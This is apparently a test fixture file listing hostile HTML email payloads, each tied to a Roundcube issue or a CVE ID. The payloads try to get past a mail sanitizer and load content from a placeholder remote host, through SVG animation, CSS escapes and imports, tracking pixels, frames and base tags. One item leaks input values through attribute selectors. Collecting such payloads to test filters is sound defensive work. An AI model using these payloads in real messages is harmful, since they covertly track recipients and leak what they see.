import type { HostileLetter } from './letter.ts'

/** Letters that want to know that they were opened: something of them lies elsewhere. */
export const loads: readonly HostileLetter[] = [
  {
    name: 'roundcube 1.7 an svg attribute with an unclosed address',
    html: `<svg><rect fill="url({remote}/open" width=9 height=9 /><rect filter="url('{remote}/filter#a')" width=9 height=9 /></svg><svg><image href="{remote}/i" width=9 height=9 /></svg>`,
  },
  {
    name: 'roundcube 1.7 svg animate adds by an attribute',
    html: `<svg><rect width=9 height=9><animate attributeName="style" by="filter:url({remote}/by)" dur="0s" fill="freeze"/></rect><image href="{remote}/i" width=9 height=9 /></svg>`,
  },
  {
    name: 'CVE-2026-48846 an address in a variable of a style',
    html: `<p style="background-image: var(--x, url({remote}/1.gif))">x</p><p style="cursor: var(--x, url({remote}/2.gif), auto)">x</p><p style="background: var(--a, var(--b, url({remote}/3.gif)))">x</p>`,
  },
  {
    name: 'CVE-2026-35545 svg animate fills from elsewhere',
    html: `<svg><rect width=9 height=9><animate attributeName="fill" values="url({remote}/fill)" dur="1s" begin="0s" fill="freeze"/></rect><image xlink:href="{remote}/i" width=9 height=9 /></svg>`,
  },
  {
    name: 'CVE-2026-35543 svg animate masks and points from elsewhere',
    html: `<svg><rect width=9 height=9><animate attributeName="mask" values="none;url({remote}/mask)" dur="1s"/><animate attributeName="cursor" values="url({remote}/cursor),auto" dur="1s"/></rect><image href="data:,x"><animate attributeName="href" values="{remote}/animated" dur="1ms" fill="freeze"/></image></svg>`,
  },
  {
    name: 'CVE-2026-35542 a background of the body',
    html: `<body background="data:image/png,x);background:url({remote}/track"><p>x</p></body><table background="{remote}/table"><tr><td background="{remote}/cell">x</td></tr></table>`,
  },
  {
    name: 'CVE-2009-0413 background attributes',
    html: `<body background="{remote}/body"><table background="{remote}/table"><tr><td background="{remote}/cell">x</td></tr></table></body>`,
  },
  {
    name: 'CVE-2026-25916 svg that loads a picture',
    html: `<svg><feImage href="{remote}/fe" /><image href="{remote}/image" width="9" height="9" /><filter id="f"><feImage href="{remote}/fe2"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
  },
  {
    name: 'CVE-2026-26079 a comment within a style',
    html: `<p style="back/**/ground:u/**/rl({remote}/1)">x</p><p style="/*x*/background:url(/*y*/{remote}/2)">x</p><style>/*</style>*/ p{background:url({remote}/3)}</style><p style="background:url({remote}/4)">x</p>`,
  },
  {
    name: 'CVE-2025-68460 an import within a style',
    html: `<style>@import url({remote}/a.css);@import "{remote}/b.css";</style><style>@im\\port '{remote}/c.css';</style><p>x</p>`,
  },
  {
    name: 'CVE-2024-42010 attribute selectors that tell what they see',
    html: `<style>p[title^="a"]{background:url({remote}/starts-a)} input[value^="x"]{background-image:url({remote}/v)}</style><p title="abc">x</p><input value="xyz">`,
  },
  {
    name: 'CVE-2026-35540 a style sheet of a host within',
    html: `<link rel="stylesheet" href="{remote}/inside.css"><link rel=preload as=image href="{remote}/p"><link rel="icon" href="{remote}/i">`,
  },
  {
    name: 'CVE-2026-48843 a style sheet by another spelling',
    html: `<LINK REL=StyleSheet HREF="{remote}/a.css"><link rel="alternate stylesheet" title=a href="{remote}/b.css"><style>@import\\20 url("{remote}/c.css");@import url({remote}/d.css);</style>`,
  },
  {
    name: 'CVE-2026-48845 an address without its scheme',
    html: `<img src="{remote}/scheme"><img src="&#10;{remote}/newline"><img srcset="{remote}/srcset 1x, {remote}/srcset2 2x">`,
  },
  {
    name: 'roundcube issue 6178 image written as image',
    html: `<image src="{remote}/image"><IMAGE SRC="{remote}/image2">`,
  },
  {
    name: 'roundcube issue 5583 a button that is a picture, and a film',
    html: `<input type="image" src="{remote}/input"><video src="{remote}/video" poster="{remote}/poster" autoplay></video><audio src="{remote}/audio" autoplay></audio>`,
  },
  {
    name: 'roundcube issue 6899 escapes within a style',
    html: `<p style="backgr\\ound-image: \\ur\\l('{remote}/1')">x</p><p style="background:\\75\\72\\6c({remote}/2)">x</p><p style="background:u\\rl({remote}/3)">x</p>`,
  },
  {
    name: 'openship issue 220 an import that was not blocked',
    html: `<style>@import url('{remote}/1.css') screen;</style><style media="all">@font-face{font-family:x;src:url({remote}/font)}p{font-family:x}</style><p>x</p>`,
  },
  {
    name: 'CVE-2010-0464 names that are looked up beforehand',
    html: `<link rel="dns-prefetch" href="{remote}/"><link rel="preconnect" href="{remote}/"><link rel="prefetch" href="{remote}/prefetch"><img src="{remote}/img">`,
  },
  {
    name: 'CVE-2026-35544 something that covers the page',
    html: `<div style="position:fixed!important;top:0;left:0;width:100vw;height:100vh;background:url({remote}/cover)">x</div><div style="position:/**/fixed;z-index:9999">x</div>`,
  },
  {
    name: 'CVE-2012-1253 an object and an embed from elsewhere',
    html: `<object data="{remote}/object"></object><embed src="{remote}/embed"><applet code="x" codebase="{remote}/"></applet><iframe src="{remote}/iframe"></iframe>`,
  },
  {
    name: 'issue functions of a style that take addresses',
    html: `<p style="background:image(url({remote}/1))">x</p><p style="background:-webkit-image-set(url({remote}/2) 1x)">x</p><p style="background:image-set('{remote}/3' 1x)">x</p><p style="background:cross-fade(url({remote}/4),url({remote}/5),50%)">x</p><ul style="list-style:url({remote}/6)"><li style="list-style-image:url({remote}/7)">x</li></ul><p style="border-image:url({remote}/8) 30;content:url({remote}/9);mask:url({remote}/10);shape-outside:url({remote}/11)">x</p>`,
  },
  {
    name: 'issue pictures chosen by the width of the window',
    html: `<picture><source srcset="{remote}/source"><img src="{remote}/img"></picture><img sizes="100vw" srcset="{remote}/a 100w, {remote}/b 900w">`,
  },
  {
    name: 'issue a picture too small to see',
    html: `<img src="{remote}/open.gif" width="1" height="1" alt=""><img src="{remote}/open2.gif" style="display:none"><img src="{remote}/open3.gif" width=0>`,
  },
  {
    name: 'issue a picture that is fetched late',
    html: `<img loading="lazy" src="{remote}/lazy"><img src="{remote}/a" crossorigin="use-credentials"><img src="{remote}/b" referrerpolicy="unsafe-url">`,
  },
  {
    name: 'issue a quotation, a change and a form that name addresses',
    html: `<blockquote cite="{remote}/cite">x</blockquote><del cite="{remote}/del">x</del><form action="{remote}/form"><button formaction="{remote}/button" autofocus>x</button></form><img longdesc="{remote}/long" lowsrc="{remote}/low" dynsrc="{remote}/dyn" src="{remote}/src">`,
  },
  {
    name: 'issue a base that turns every address',
    html: `<base href="{remote}/"><img src="relative.png"><img src="/rooted.png"><a href="x" ping="{remote}/ping">x</a>`,
  },
  {
    name: 'issue frames of many kinds',
    html: `<frameset><frame src="{remote}/frame"></frameset><iframe src="{remote}/iframe"></iframe><portal src="{remote}/portal"></portal><fencedframe src="{remote}/fenced"></fencedframe>`,
  },
  {
    name: 'issue a conditional comment',
    html: `<!--[if gte mso 9]><img src="{remote}/mso"><![endif]--><!--[if !mso]><!--><img src="{remote}/not-mso"><!--<![endif]-->`,
  },
]
